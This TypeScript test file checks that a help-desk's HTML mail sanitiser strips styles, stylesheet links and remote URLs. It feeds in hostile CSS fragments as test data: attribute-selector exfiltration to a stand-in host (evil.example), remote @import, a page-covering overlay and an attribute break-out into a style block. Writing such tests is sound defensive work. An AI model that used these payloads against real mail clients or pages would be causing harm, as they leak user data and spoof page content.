// The styles of a mail cover parts of the page, or leak its content through the URLs that they fetch.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { mailHtml } from '#desk/intake/mail-html.ts';
import { openTestDesk } from '#test/desk-world.ts';
import { mailDocument } from '#web/console/ticket/record/mail-document.ts';
import { mailHtmlPolicy } from '#web/shared/mail-html-policy.ts';
import { receiveHtml } from './html-mails.ts';

const desk = await openTestDesk();
const pieces = [
  '<style>@import url(https://evil.example/a.css); input[value^=a]{background:url(https://evil.example/a)}</style>',
  '<div style="position:fixed;inset:0;background:url(https://evil.example/b)" class="toast" id="app">un</div>',
  '<link rel=stylesheet href="https://evil.example/c.css"><table background="https://evil.example/d"><tr><td bgcolor=red>deux</td></tr></table>',
  '<p title="}</style><style>*{background:url(https://evil.example/e)}">trois</p><svg><style>*{x:url(//evil.example)}</style></svg>',
];
const { entry } = await receiveHtml(desk, pieces.join('\n'));
const { mailId } = await desk.db
  .selectFrom('entries')
  .select('mailId')
  .where('id', '=', entry)
  .executeTakeFirstOrThrow();
const html = (await mailHtml(desk.world, { mailId, isWholeMail: true, files: [] }, (id) => `/files/${id}`))!;

test('no style, class or stylesheet link of a mail survives', () => {
  const tags = (html.match(/<[^>]*>/g) ?? []).join('\n');
  assert.doesNotMatch(tags, /\b(?:style|class|id|background|bgcolor)\s*=|<style|<link/i);
  assert.doesNotMatch(html, /url\(|@import|position|evil\.example/i);
  for (const word of ['un', 'deux', 'trois', 'après']) assert.match(html, new RegExp(word));
});

test('the frame’s document has only our styles and may fetch none', () => {
  const document = mailDocument(html, {
    language: 'fr',
    theme: 'system',
    blocked: 'image non chargée',
    links: ({ count }) => `${count} liens`,
  });
  assert.equal(document.match(/<style>/g)?.length, 1);
  assert.doesNotMatch(document, /url\(|@import|evil\.example/);
  assert.match(mailHtmlPolicy(), /default-src 'none'; style-src 'unsafe-inline'; img-src data:/);
});
